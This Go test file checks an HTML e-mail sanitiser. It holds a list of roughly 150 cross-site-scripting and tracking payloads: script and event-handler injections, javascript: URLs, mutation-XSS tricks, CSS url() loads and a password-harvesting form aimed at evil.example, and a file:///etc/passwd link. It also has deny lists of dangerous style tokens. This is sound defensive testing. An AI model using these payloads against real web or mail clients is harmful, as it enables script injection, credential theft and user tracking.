package display

import (
	"context"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// safe fails the test unless every element and attribute of cleaned HTML is one
// that can neither act nor load. It judges the parsed result, not its spelling.
func safe(t testing.TB, source, clean string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(Frame(clean)))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(*html.Node, bool)
	walk = func(n *html.Node, body bool) {
		if n.Type == html.ElementNode && n.Data == "body" {
			body = true
		}
		if n.Type == html.CommentNode {
			t.Errorf("%.200q: a comment is left: %.200q", source, clean)
		}
		if body && n.Type == html.ElementNode && n.Data != "body" {
			if n.Namespace != "" || !allowedElements[n.Data] {
				t.Errorf("%.200q: element %s is left: %.200q", source, n.Data, clean)
			}
			for _, a := range n.Attr {
				checkAttr(t, source, n.Data, a)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, body)
		}
	}
	walk(doc, false)
}

// allowedElements is written down here again: the test must not believe the policy.
var allowedElements = set(`a abbr address article aside b bdi bdo big blockquote br caption center cite code col
	colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd
	li main mark nav ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead
	time tr tt u ul var wbr`)

var allowedAttributes = set(`href src alt title style align valign dir lang width height border cellpadding cellspacing
	bgcolor colspan rowspan span color size face start value type nowrap open target rel`)

func checkAttr(t testing.TB, source, element string, a html.Attribute) {
	t.Helper()
	v := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case a.Namespace != "" || !allowedAttributes[a.Key] || strings.HasPrefix(a.Key, "on"):
		t.Errorf("%.200q: attribute %s is left", source, a.Key)
	case a.Key == "src" && (element != "img" || !strings.HasPrefix(v, "data:image/") || strings.HasPrefix(v, "data:image/svg")):
		t.Errorf("%.200q: src %.60s is left", source, v)
	case a.Key == "href" && (element != "a" || !(strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "mailto:") || strings.HasPrefix(v, "tel:"))):
		t.Errorf("%.200q: href %.60s is left", source, v)
	case a.Key == "style":
		for _, bad := range []string{"url", "expression", "@", `\`, "/*", "<", "position", "behavior", "binding", "image-set", "var(", "env(", "attr(", "{"} {
			if strings.Contains(v, bad) {
				t.Errorf("%.200q: style %.80s is left", source, v)
			}
		}
	}
}

// hostile are the shapes of attacks on mail in a browser: scripts, remote loads,
// forms, navigation, other languages, broken syntax that a browser mends.
var hostile = strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<<script>alert(1)//<</script>
<script>alert(1)
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" onload='x' OnClick=y>
<img/src=x/onerror=alert(1)>
<img src="x" onerror
=alert(1)>
<img src=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src=https://evil.example/p.gif>
<img src=//evil.example/p.gif>
<img src=http:evil.example/p.gif>
<img src=\\evil.example\p.gif>
<img src=" https://evil.example/p.gif">
<img srcset="https://evil.example/p.gif 2x">
<img src=data:image/svg+xml,<svg/onload=alert(1)>>
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img src="data:text/html,<script>alert(1)</script>">
<img src=data:image/png;base64,iVBORw0KGgo= onerror=alert(1)>
<img src=cid:unknown>
<img src=x src=https://evil.example/second>
<img lowsrc=https://evil.example/l dynsrc=https://evil.example/d longdesc=https://evil.example/g>
<image src=https://evil.example/p.gif>
<picture><source srcset=https://evil.example/p.webp><img src=https://evil.example/p></picture>
<input type=image src=https://evil.example/p>
<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>
<video><source onerror=alert(1)></video>
<audio src=https://evil.example/a autoplay></audio>
<track src=https://evil.example/t>
<embed src=https://evil.example/e>
<object data=https://evil.example/o></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<applet code=x archive=https://evil.example/a></applet>
<iframe src=https://evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<frameset><frame src=https://evil.example/></frameset>
<portal src=https://evil.example/></portal>
<fencedframe src=https://evil.example/></fencedframe>
<link rel=stylesheet href=https://evil.example/s.css>
<link rel=prefetch href=https://evil.example/>
<link rel=dns-prefetch href=//evil.example>
<link rel=preconnect href=https://evil.example>
<style>@import 'https://evil.example/s.css';</style>
<style>body{background:url(https://evil.example/b)}</style>
<style><img src=x onerror=alert(1)></style>
<style>/*</style><img src=x onerror=alert(1)>*/
<base href=https://evil.example/><a href=x>x</a>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<body onload=alert(1) background=https://evil.example/b>
<body style="background:url(https://evil.example/b)">
<table background=https://evil.example/b><td background=https://evil.example/c>x
<div style="background:url(https://evil.example/b)">x</div>
<div style="background:URL('https://evil.example/b')">x</div>
<div style="background:\75rl(https://evil.example/b)">x</div>
<div style="background:u/**/rl(https://evil.example/b)">x</div>
<div style="background-image:image-set('https://evil.example/b' 1x)">x</div>
<div style="background-image:-webkit-image-set(url(https://evil.example/b) 1x)">x</div>
<div style="background:cross-fade(url(https://evil.example/b), red)">x</div>
<div style="list-style-image:url(https://evil.example/b)">x</div>
<div style="content:url(https://evil.example/b)">x</div>
<div style="cursor:url(https://evil.example/b),auto">x</div>
<div style="filter:url(https://evil.example/b#f)">x</div>
<div style="mask:url(https://evil.example/b)">x</div>
<div style="shape-outside:url(https://evil.example/b)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(#default#time2)">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<div style="--x:url(https://evil.example/b);background:var(--x)">x</div>
<div style="color:red;}*{background:url(https://evil.example/b)">x</div>
<div style="font-family:'x';background:url('https://evil.example/b">x</div>
<div style="@import 'https://evil.example/s'">x</div>
<div style='color:red"><script>alert(1)</script>'>x</div>
<div style="color:rgb(0,0,0)url(https://evil.example/b)">x</div>
<div style="color:rgb(url(https://evil.example/b))">x</div>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://x/y">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://x/">x</a>
<a href="intent://x#Intent;end">x</a>
<a href="/logout">x</a>
<a href="//evil.example/">x</a>
<a href="?q">x</a>
<a href="#main">x</a>
<a href=https://x/ ping=https://evil.example/ping>x</a>
<a href=https://x/ target=_top>x</a>
<a href=https://x/ download>x</a>
<a href=https://x/ rel=opener target=_self>x</a>
<area href=javascript:alert(1)><map name=m><area href=https://evil.example/></map>
<form action=https://evil.example/><input name=password><button>Log in</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open>x</dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><image href=https://evil.example/p></svg>
<svg><use href="https://evil.example/s.svg#x"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href=javascript:alert(1)>x</math>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!--[if mso]><img src=https://evil.example/p><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="https://evil.example/x"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/">]>
<x onclick=alert(1)>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<custom-element is=x onclick=alert(1)>x</custom-element>
<b id=documentElement name=body class=card>x</b>
<img name=cookie src=x><a id=location href=https://evil.example/>
<p slot=x part=y contenteditable tabindex=1 accesskey=x draggable=true>x</p>
<td onmouseover=alert(1) style="color:red">x</td>
<a href="https://x/" style="display:block;position:absolute">x</a>
<font color="red;background:url(x)" face="x';}" size=99999>x</font>
<table width="100%;background:url(x)" bgcolor="javascript:alert(1)">x</table>
<ol type="x" start="javascript:1"><li value=x>x</ol>
<p align="left onclick=alert(1)" dir="ltr onload=x" lang="en' onclick=x">x</p>
`), "\n<")

func TestSanitiseHostile(t *testing.T) {
	if len(hostile) < 140 {
		t.Fatalf("only %d attacks", len(hostile))
	}
	s := NewSanitiser(2)
	n := 0
	// Each attack alone, and in places where a browser parses it differently.
	for _, wrap := range []string{"%s", "<table><tr><td>%s</table>", "<p>a%s b</p>", `<a href="https://x/">%s</a>`,
		"<select>%s</select>", "<svg>%s</svg>", "<b><i>%s</b></i>", "<title>%s", "<!--x-->%s<!--"} {
		for i, h := range hostile {
			if i > 0 {
				h = "<" + h
			}
			source := strings.Replace(wrap, "%s", h, 1)
			c, err := s.Sanitise(context.Background(), source, nil)
			if err != nil {
				t.Fatal(err)
			}
			safe(t, source, c.HTML)
			// Cleaning what is clean changes nothing that matters.
			again, err := s.Sanitise(context.Background(), c.HTML, nil)
			if err != nil {
				t.Fatal(err)
			}
			safe(t, source, again.HTML)
			n++
		}
	}
	t.Logf("%d payloads", n)
}

func TestSanitiseKeeps(t *testing.T) {
	dot := Picture{"image/png", []byte("\x89PNG\r\n\x1a\n....")}
	tests := []struct{ in, want string }{
		{"<p>a <b>b</b> &amp; &lt;c&gt;</p>", "<p>a <b>b</b> &amp; &lt;c&gt;</p>"},
		{`<a href="https://example.com/?a=1&amp;b=2">x</a>`, `<a href="https://example.com/?a=1&amp;b=2" rel="noreferrer noopener" target="_blank">x</a>`},
		{`<a href="mailto:a@b.example">x</a>`, `<a href="mailto:a@b.example" rel="noreferrer">x</a>`},
		{`<p style="COLOR: red; position: fixed; margin:0 auto; background:url(x)">x</p>`, `<p style="color: red; margin: 0 auto">x</p>`},
		{`<td style="color:rgba(1, 2, 3, .5);font:12px/1.5 'Segoe UI', sans-serif">x</td>`, `<td style="color: rgba(1, 2, 3, .5); font: 12px/1.5 &#39;Segoe UI&#39;, sans-serif">x</td>`},
		{`<img src="cid:a%40b" alt="A" width=10>`, `<img src="data:image/png;base64,iVBORw0KGgouLi4u" alt="A" width="10">`},
		{`<img src="CID:a@b">`, `<img src="data:image/png;base64,iVBORw0KGgouLi4u">`},
		{`<body bgcolor=#fff style="color:red"><p>x</body>`, `<div bgcolor="#fff" style="color: red"><p>x</div>`},
		{`<table width="600" cellpadding=0><tr><td colspan=2 bgcolor=red align=center>x</td></tr></table>`,
			`<table width="600" cellpadding="0"><tr><td colspan="2" bgcolor="red" align="center">x</td></tr></table>`},
		{"<title>t</title><style>p{}</style>text", "text"},
		{"ä ö \u00a0 € 日本", "ä ö \u00a0 € 日本"},
	}
	s := NewSanitiser(1)
	for _, tt := range tests {
		c, err := s.Sanitise(context.Background(), tt.in, map[string]Picture{"a@b": dot})
		if err != nil || c.HTML != tt.want {
			t.Errorf("%s\n got %s\nwant %s (%v)", tt.in, c.HTML, tt.want, err)
		}
		safe(t, tt.in, c.HTML)
	}
}

func TestSanitiseRemote(t *testing.T) {
	s := NewSanitiser(1)
	for in, want := range map[string]bool{
		"<p>x</p>": false, "<img src=https://x/y>": true, "<td background=//x/y>": true, "<img src=cid:none>": false,
		`<img src="data:image/png;base64,AAAA">`: false, "<a href=https://x/>": false,
	} {
		c, err := s.Sanitise(context.Background(), in, nil)
		if err != nil || c.Remote != want {
			t.Errorf("%s: remote %v (%v)", in, c.Remote, err)
		}
	}
}

// TestSanitiseCost: what would take long is refused, and a million octets of the
// worst shapes known are done well within the time that the portal allows.
func TestSanitiseCost(t *testing.T) {
	s := NewSanitiser(4)
	if _, err := s.Sanitise(context.Background(), strings.Repeat("x", maxHTML+1), nil); err == nil {
		t.Error("HTML over the limit is taken")
	}
	gone, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.Sanitise(gone, strings.Repeat("<b>", maxHTML/3), nil); err == nil {
		t.Error("it goes on after its time")
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	for _, part := range []string{"<b>", "</b>", "<", "<!--", "<p style='color:red;'>", "<a href=https://x/>", "&", "<p a=1 b=2 c=3>", "<svg><math>", "<title>", "\x00", "<img src='data:image/png;base64,AAAA'>"} {
		source := strings.Repeat(part, maxHTML/len(part))
		c, err := s.Sanitise(ctx, source, nil)
		if err != nil {
			t.Errorf("%q: %v", part, err)
		}
		_ = c
	}
	one := "<p style='" + strings.Repeat("color:red;", 100_000) + "'>x"
	if c, err := s.Sanitise(ctx, one, nil); err != nil || strings.Contains(c.HTML, "style") {
		t.Errorf("one long style: %v", err)
	}
}

func TestUnstyled(t *testing.T) {
	if got := Unstyled(`<p style="color: red" align="left">a &amp; b<br></p>`); got != `<p align="left">a &amp; b<br></p>` {
		t.Error(got)
	}
}

func FuzzSanitise(f *testing.F) {
	for i, h := range hostile {
		if i%9 == 0 {
			f.Add(h)
		}
	}
	s := NewSanitiser(4)
	f.Fuzz(func(t *testing.T, source string) {
		c, err := s.Sanitise(context.Background(), source, map[string]Picture{"a": {"image/png", []byte("x")}})
		if err != nil {
			return
		}
		safe(t, source, c.HTML)
		safe(t, source, Unstyled(c.HTML))
	})
}

// complaints counts what a check complains of.
type complaints struct {
	testing.TB
	n int
}

func (c *complaints) Helper()               {}
func (c *complaints) Errorf(string, ...any) { c.n++ }

// TestSafeSees is the control: without cleaning, the check complains.
func TestSafeSees(t *testing.T) {
	seen := 0
	for i, h := range hostile {
		if i > 0 {
			h = "<" + h
		}
		c := &complaints{TB: t}
		safe(c, h, h)
		if c.n > 0 {
			seen++
		}
	}
	if seen < len(hostile)*3/4 {
		t.Errorf("the check sees %d of %d attacks", seen, len(hostile))
	}
}
